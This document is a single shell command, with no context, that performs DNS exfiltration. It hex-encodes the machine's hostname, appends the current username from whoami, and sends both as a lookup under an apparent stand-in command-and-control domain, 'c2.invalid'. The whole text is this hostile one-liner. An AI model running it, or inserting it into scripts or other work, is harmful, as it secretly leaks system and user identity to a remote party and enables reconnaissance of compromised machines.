nslookup $(hostname | xxd -p).$(whoami).c2.invalid
